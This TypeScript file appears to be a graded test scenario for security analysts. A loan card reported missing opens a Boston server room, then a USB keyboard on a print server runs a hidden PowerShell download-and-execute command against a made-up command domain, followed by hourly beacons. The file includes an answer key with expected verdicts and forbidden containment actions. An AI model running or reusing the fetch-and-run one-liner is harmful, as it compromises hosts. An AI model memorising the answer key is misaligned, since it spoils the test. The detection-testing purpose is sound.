// Brivo opens a server room to a loan card that was reported gone; then a keyboard appears at a server.
import { alert, connected, hostile, ran, situation } from '../../shorthand.ts'

export const brivoLoanCardAtTheServerRoom = situation(
  'brivo-loan-card-at-the-server-room',
  'resolution',
  'Brivo: server room opened out of hours',
  (setting) => {
    const grace = setting.person('grace.mbeki')
    const server = setting.machine('srv-print-03')
    const other = setting.machine('srv-dc-02')
    const at = setting.ago({ hours: 9, minutes: 21 })
    const c2 = 'p4.nordcloud-metrics.net'
    const c2Ip = '45.138.16.203'
    const lost = setting.ago({ days: 5, hours: 6 })
    const script = `$u='https://${c2}/k/7';iex (iwr -useb $u)`
    return {
      alerts: [
        alert(setting, at + 30_000, 'brivo_access', 'Access granted - outside of schedule', {
          id: setting.seeded.guid('brivo event'),
          uuid: setting.seeded.guid('brivo uuid'),
          accountId: 77_204,
          accountName: 'Havskog Instruments Inc',
          occurred: setting.iso(at),
          created: setting.iso(at + 2000),
          securityAction: {
            securityActionId: 2004,
            action: 'Access Granted by Card',
            exception: false,
            category: 'ACCESS',
          },
          eventType: 'Access granted - outside of schedule',
          severity: 'Notice',
          site: { id: 30_118, siteName: 'Boston, 3rd floor', timeZone: 'America/New_York' },
          eventObject: {
            id: 5_120_441,
            name: 'Server room 3.14',
            type: 'DOOR',
            panel: 'ACS6000-BOS-02',
            firmware: '6.4.3',
          },
          actor: {
            id: 9_001_337,
            name: 'Loaner 3',
            type: 'USER',
            firstName: 'Loaner',
            lastName: '3',
            email: null,
            phone: null,
          },
          credential: { id: 11_402_871, disabled: false, format: '26-bit Standard', facilityCode: 88, number: '41127' },
          group: { id: 2210, name: 'Building services' },
          schedule: { name: 'Mon-Fri 07:00-18:00', enforced: false, note: 'privileged group, schedule reported only' },
          related: [
            {
              occurred: setting.iso(at - 4 * 60_000),
              action: 'Access Granted by Card',
              object: 'Dock door',
              number: '41127',
            },
            { occurred: setting.iso(at + 17 * 60_000), action: 'Door Opened From Inside', object: 'Server room 3.14' },
          ],
          antiPassback: 'off',
          camera: { provider: 'Eagle Eye', clip: null, reason: 'bridge offline since Tuesday' },
          notificationRule: { id: 611, name: 'Server rooms, nights' },
          link: 'https://access.brivo.com/globalview/#/activity',
        }),
      ],
      facts: {
        investigations: [
          {
            key: 'copier engineer card',
            title: 'Visitor card not handed back',
            status: 'WAITING',
            source: 'USER',
            priority: 'LOW',
            disposition: 'UNDECIDED',
            assignee: setting.person('oskar.falk'),
            at: lost,
            tags: ['Facilities'],
            alerts: [],
            comments: [
              {
                author: grace.name,
                body: 'Loaner 3 (41127) was signed out to the man for the copier on my name and never came back. His firm says they sent nobody that day. Please switch the card off, it opens the dock and 3.14.',
                at: lost,
              },
              {
                author: 'Oskar Falk',
                body: 'Asked the landlord, they run that panel. No answer so far. srv-print-03 and srv-dc-02 stand in 3.14, so call me if you meet him there.',
                at: lost + 26 * 60 * 60_000,
              },
            ],
          },
        ],
        telemetry: [
          {
            table: 'DeviceEvents',
            at: at + 5 * 60_000,
            machine: server,
            columns: {
              ActionType: 'PnpDeviceConnected',
              AdditionalFields: JSON.stringify({
                ClassName: 'Keyboard',
                DeviceDescription: 'HID Keyboard Device',
                DeviceId: 'USB\\VID_16C0&PID_27DB\\6&2a1c9f',
                VendorIds: 'USB\\VID_16C0&PID_27DB',
              }),
            },
          },
          ran(server, at + 5 * 60_000 + 9000, 'powershell.exe', `powershell.exe -w hidden -c "${script}"`, {
            AccountName: 'prnadmin',
            FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            InitiatingProcessFileName: 'explorer.exe',
            InitiatingProcessAccountName: 'prnadmin',
          }),
          ...[6, 66, 126, 186, 246, 306, 366, 426, 486].map((minutes) =>
            connected(server, at + minutes * 60_000, c2Ip, {
              RemoteUrl: c2,
              InitiatingProcessFileName: 'powershell.exe',
              InitiatingProcessCommandLine: `powershell.exe -w hidden -c "${script}"`,
              InitiatingProcessAccountName: 'prnadmin',
            }),
          ),
        ],
      },
      expected: {
        ...hostile(server.host),
        severities: ['high', 'critical'],
        forbidden: [
          { action: 'isolate-machine', target: other.host },
          { action: 'isolate-machine', target: setting.laptopOf('grace.mbeki').host },
          { action: 'contain-account', target: grace.email },
        ],
      },
      because:
        'The number of the card belongs to a loan card that a stranger took with him five days ago; that Grace signed it out does not make it hers. Minutes after it opened the room, a keyboard appeared at the print server that stands in it and typed a command that fetches from a command domain known today, and the server has called there every hour since. Nothing of the sort is seen at the other server in Boston.',
    }
  },
)
